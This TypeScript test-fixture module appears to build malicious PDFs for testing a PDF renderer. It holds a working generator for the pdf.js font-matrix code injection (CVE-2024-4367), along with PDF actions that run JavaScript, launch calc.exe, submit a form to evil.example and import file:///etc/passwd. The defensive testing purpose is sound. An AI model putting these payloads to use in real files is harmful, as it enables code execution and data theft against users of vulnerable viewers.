/** PDFs that carry programs, and links that lead out of the browser. They matter when a page is drawn. */
import { assemble, bytesOf, FIRST_FREE, setLines, writePdf } from '../../fixtures/pdf/write-pdf';
import { PLAIN } from './broken';

const asText = (bytes: Iterable<number>): string => String.fromCharCode(...bytes);

/** How a Type 1 font hides its private part and its outlines: four bytes of no meaning, then the text. */
function hidden(text: string, key: number): string {
  let state = key;
  return asText(
    bytesOf(`\xff\xff\xff\xff${text}`).map((byte) => {
      const cipher = byte ^ (state >> 8);
      state = ((cipher + state) * 52_845 + 22_719) & 0xffff;
      return cipher;
    }),
  );
}

const number = (value: number): number[] =>
  value <= 107 ? [value + 139] : [((value - 108) >> 8) + 247, (value - 108) & 255];
/** A triangle, in the operators of a Type 1 outline: hsbw, rmoveto, hlineto, vlineto, closepath, endchar. */
const OUTLINE = asText([
  ...[...number(0), ...number(1_000), 13, ...number(0), ...number(0), 21],
  ...[...number(500), 6, ...number(700), 7, 9, 14],
]);

/** A font program with the one letter A, which says nothing about its matrix: the file's own entry counts. */
function letterA(): { head: string; body: string } {
  const glyph = hidden(OUTLINE, 4_330);
  const head =
    '%!PS-AdobeFont-1.0: Sample\n/FontName /Sample def\n/FontType 1 def\n/Encoding StandardEncoding def\n' +
    '/FontBBox {0 0 1000 1000} readonly def\ncurrentfile eexec\n';
  const body =
    'dup /Private 4 dict dup begin\n/lenIV 4 def\n2 index /CharStrings 2 dict dup begin\n' +
    `/.notdef ${glyph.length} RD ${glyph} ND\n/A ${glyph.length} RD ${glyph} ND\nend\nend\n`;
  return { head, body: hidden(body, 55_665) };
}

/**
 * P13: a font whose matrix carries a program (CVE-2024-4367). pdf.js up to 4.1 made a function of a letter's outline and the
 * matrix where letters are drawn as shapes, which the text's mode (fill, and clip by it) asks for; pdfjs-dist 4.1.392
 * does run this one. `code` tells the test if it ever runs.
 */
export function programInFont(code: string): Uint8Array {
  const { head, body } = letterA();
  const content = 'BT /f 40 Tf 4 Tr 90 400 Td (AAAA) Tj ET';
  return assemble(
    [
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Count 1 /Kids [3 0 R] >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /f 5 0 R >> >> >>',
      `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
      '<< /Type /Font /Subtype /Type1 /BaseFont /Sample /FirstChar 65 /LastChar 65 /Widths [1000] ' +
        `/FontMatrix [0.001 0 0 0.001 0 (1\\); ${code} //)] /FontDescriptor 6 0 R >>`,
      '<< /Type /FontDescriptor /FontName /Sample /Flags 4 /FontBBox [0 0 1000 1000] /Ascent 800 /Descent 0 ' +
        '/StemV 80 /CapHeight 700 /ItalicAngle 0 /FontFile 7 0 R >>',
      `<< /Length ${head.length + body.length} /Length1 ${head.length} /Length2 ${body.length} /Length3 0 >>\n` +
        `stream\n${head}${body}\nendstream`,
    ],
    '',
  );
}

/** P14: scripts, launch actions, an XFA form; and the same behind links of the page. */
export const actions = (): Uint8Array =>
  writePdf({
    pages: [{ ...PLAIN.pages[0], texts: setLines(['　　样例省出台措施（虚构）。']), entries: annotations(ACTIONS) }],
    catalog:
      `/OpenAction ${FIRST_FREE} 0 R /AA << /WC ${FIRST_FREE + 1} 0 R >> ` +
      `/AcroForm << /XFA ${FIRST_FREE + 2} 0 R /Fields [] >> /Names << /JavaScript << /Names [(a) ${FIRST_FREE} 0 R] >> >>`,
    objects: [
      '<< /S /JavaScript /JS (app.alert\\(1\\)) >>',
      '<< /S /Launch /F (calc.exe) >>',
      '<< /Length 62 >>\nstream\n<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"></xdp:xdp>      \nendstream',
    ],
  });

const ACTIONS = [
  '<< /S /JavaScript /JS (app.alert\\(1\\)) >>',
  '<< /S /Launch /F (calc.exe) >>',
  '<< /S /SubmitForm /F (https://evil.example/form) >>',
  '<< /S /ImportData /F (file:///etc/passwd) >>',
];

const annotations = (links: readonly string[]): string =>
  `/Annots [${links
    .map(
      (action, i) =>
        `<< /Type /Annot /Subtype /Link /Border [0 0 0] /Rect [90 ${700 - 30 * i} 300 ${720 - 30 * i}] /A ${action} >>`,
    )
    .join(' ')}]`;

/** One link per address, from the top of the page. */
export const linksTo = (addresses: readonly string[]): Uint8Array =>
  writePdf({
    pages: [{ texts: [], entries: annotations(addresses.map((address) => `<< /S /URI /URI (${address}) >>`)) }],
  });
